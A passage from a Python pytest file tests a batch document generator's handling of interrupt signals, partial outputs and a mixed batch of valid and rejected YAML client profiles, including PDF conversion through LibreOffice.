                if out.is_dir() and sum(p.is_dir() for p in out.iterdir()) >= 3:
                    break
                time.sleep(0.01)
            with contextlib.suppress(ProcessLookupError):
                os.killpg(proc.pid, sig)
            _, stderr = proc.communicate(timeout=120)
        finally:
            if proc.poll() is None:
                os.killpg(proc.pid, signal.SIGKILL)
                proc.wait()
        assert proc.returncode in ({-signal.SIGKILL} if sig == signal.SIGKILL else {1}), stderr
        if sig == signal.SIGINT:
            assert "Traceback" not in stderr
            assert stderr.strip() == "Aborted!"
        assert_complete(out)  # leftovers may exist, but only as hidden .part files
        result = run(out, tmp_path / "in")
        assert result.exit_code == 0, result.output
        assert partials(out) == []
        assert visible_tree(out) == client_tree(*ids)
        assert_complete(out)
        manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
        assert {f"{c}/{name}" for c in ids for name in CLIENT_FILES} <= set(manifest["files"])


# --- acceptance 2: a batch mixing good and hostile profiles ---------------------------------


@pytest.mark.libreoffice
def test_mixed_batch_writes_every_good_client_completely(tmp_path: Path) -> None:
    """Good profiles (the samples and the hostile-but-valid ones) beside every rejected
    fixture: exit 1, each rejected file listed, every good client's documents open in
    LibreOffice."""
    from engine.documents.pdf import convert_to_pdf, find_soffice

    if find_soffice() is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    folder = tmp_path / "in"
    folder.mkdir()
    for path in [*(ROOT / "inputs").glob("*.yaml"), *PROFILES.glob("*.yaml"),
                 *ACCEPTED.glob("*.yaml")]:
        shutil.copy(path, folder / path.name)
    out = tmp_path / "out"
    result = run(out, folder, jobs=2)
    assert result.exit_code == 1
    rejected = sorted(p.name for p in PROFILES.glob("*.yaml"))
    for name in rejected:
        assert f"error: {folder / name}:" in result.output, name
    summary = (out / "summary.csv").read_text(encoding="utf-8").splitlines()[1:]
    good = sorted(line.split(",")[0] for line in summary)
    assert len(good) == len(list((ROOT / "inputs").glob("*.yaml"))) + len(list(
        ACCEPTED.glob("*.yaml")))
    assert f"{len(good)} written, 0 unchanged, {len(rejected)} failed" in result.output
    assert visible_tree(out) == client_tree(*good)
    assert_complete(out)
    docs = [out / client / name for client in good for name in DOCS]
    pdfs = convert_to_pdf(docs, None)
    for pdf in pdfs:
        data = pdf.read_bytes()
        assert data.startswith(b"%PDF-"), pdf
        assert b"%%EOF" in data[-1024:], pdf
